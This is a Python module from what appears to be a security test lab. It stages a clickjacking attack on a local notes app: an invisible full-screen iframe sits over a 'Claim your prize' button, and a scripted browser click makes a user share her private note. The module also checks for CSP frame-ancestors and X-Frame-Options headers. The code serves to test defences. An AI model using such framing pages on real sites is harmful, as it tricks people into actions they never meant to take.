"""Clickjacking: the app in an invisible frame, its button under the attacker's.

The attacker's page stands on another host of the app's own site: to a frame of a foreign site today's browsers send no
cookies, so that one would show the sign-in form.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ..client import SAME_SITE_FRAME
from ..results import Outcome
from ..stage import Stage
from .base import Attack

if TYPE_CHECKING:
    from playwright.sync_api import Page

_LOOKS = 60
_SHARED = "SELECT shared FROM notes WHERE title = 'Side door'"
_PAGE = """
<style>
  body {{ margin: 0 }}
  iframe {{ position: fixed; inset: 0; width: 100vw; height: 100vh; border: 0; opacity: 0; z-index: 1 }}
  button {{ position: fixed; left: {left}px; top: {top}px }}
</style>
<button>Claim your prize</button>
<iframe src="{target}"></iframe>
"""


def in_browser(stage: Stage) -> Outcome:
    """Let ada click on the prize."""
    target = stage.url + _note_of(stage, "ada")
    x, y = _where_the_button_is(stage)
    path = stage.attacker.publish(f"frame-{stage.name}", _PAGE.format(left=x - 40, top=y - 10, target=target))
    before = stage.value(_SHARED)
    with stage.page("ada") as page:
        page.goto(stage.attacker.sibling + path)
        frame = _where_the_frame_is(page)
        page.mouse.click(x, y)
        after = stage.changed(_SHARED, before=before)
    shown = frame == target
    seen = "The frame loaded" if shown else "The browser refused the frame"
    row = f"'Side door' shared: {before} -> {after}" if after != before else f"the note is still private ({after})"
    return Outcome(after != before, f"{seen}; {row}", {"frame": frame, "before": before, "after": after})


def _where_the_frame_is(page: Page) -> str:
    """Return the frame's address; the driver learns of a refused frame a moment after the page has loaded."""
    for _ in range(_LOOKS):
        if page.frames[1].url:
            break
        page.wait_for_timeout(50)
    return page.frames[1].url


def _note_of(stage: Stage, owner: str) -> str:
    """Return the path of somebody's first note; ada's is 'Side door'."""
    note = stage.value("SELECT min(id) FROM notes WHERE owner = ?", owner)
    return f"/notes/{note}"


def _where_the_button_is(stage: Stage) -> tuple[float, float]:
    """Measure on a note of the attacker's own, which has the same layout; once, since both apps look the same."""
    measured = stage.attacker.measured
    if measured is not None:
        return measured
    with stage.page("mallory") as page:
        page.goto(stage.url + _note_of(stage, "mallory"))
        box = page.locator("#share").bounding_box()
    if box is None:
        raise RuntimeError("The button to share a note is not on its page.")
    stage.attacker.measured = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    return stage.attacker.measured


def over_http(stage: Stage) -> Outcome:
    """Ask for the page as a frame does, and read whether a browser may show it there."""
    answer = stage.client("ada").get(_note_of(stage, "ada"), SAME_SITE_FRAME)
    policy = answer.headers.get("Content-Security-Policy", "")
    ancestors = next((part.strip() for part in policy.split(";") if part.strip().startswith("frame-ancestors")), "")
    refused = ancestors or answer.headers.get("X-Frame-Options", "")
    proof = f"Browsers must not frame it: {refused}" if refused else "No header keeps a browser from framing the page"
    return Outcome(not refused, proof, {"refused_by": refused, "status": answer.status})


ATTACK = Attack(
    slug="framed-click",
    title="Framed page",
    story="An invisible frame lies over a prize; ada's click shares her private note with everybody.",
    control="headers.csp",
    in_browser=in_browser,
    over_http=over_http,
)
